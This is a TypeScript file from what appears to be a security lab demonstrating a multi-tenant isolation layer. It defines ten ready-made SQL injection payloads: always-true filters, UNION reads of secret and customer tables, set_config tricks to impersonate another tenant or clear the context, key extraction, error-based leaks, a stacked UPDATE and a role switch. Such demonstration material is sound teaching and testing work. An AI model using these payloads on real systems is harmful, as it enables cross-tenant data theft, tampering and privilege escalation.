import type { Lab } from '../contract/index.ts';

/**
 * Ready-made attacks, each against both targets.
 *
 * @param other id of a tenant to steal from; absent when there is no other
 */
export function examples(other: string | undefined): Lab['examples'] {
  const victim = other ?? '00000000-0000-4000-8000-000000000000';
  return [
    { title: 'Every row', text: "' or true --" },
    { title: 'Filter by the other tenant', text: `' or tenant_id = '${victim}' --` },
    { title: 'Union with the whole table', text: "' union select title, secret from lab.secret --" },
    { title: 'Another table: customers', text: "' union select code, name from books.customer --" },
    {
      title: 'Become the other tenant',
      text: `' union all select s.title, s.secret from (select set_config('bulkhead.context', replace(current_setting('bulkhead.context', true), split_part(current_setting('bulkhead.context', true), '.', 4), '${victim}'), true) c, set_config('app.tenant', '${victim}', true) p offset 0) x, lateral (select title, secret from lab.secret where x.p is not null offset 0) s --`,
    },
    {
      title: 'Drop the context',
      text: "' union all select s.title, s.secret from (select set_config('bulkhead.context', '', true) c, set_config('app.tenant', '', true) p offset 0) x, lateral (select title, secret from lab.secret where x.p is not null offset 0) s --",
    },
    {
      title: 'Read the sealing key',
      text: "' union select id, encode(inner_pad, 'hex') from bulkhead.context_key --",
    },
    {
      title: 'Read it out of an error',
      text: `' and 1 = (select secret::integer from lab.secret where tenant_id = '${victim}') --`,
    },
    { title: 'A second statement', text: "'; update lab.secret set secret = 'mine' --" },
    { title: 'Take another role', text: "' union select set_config('role', 'bulkhead_owner', true), '' --" },
  ];
}
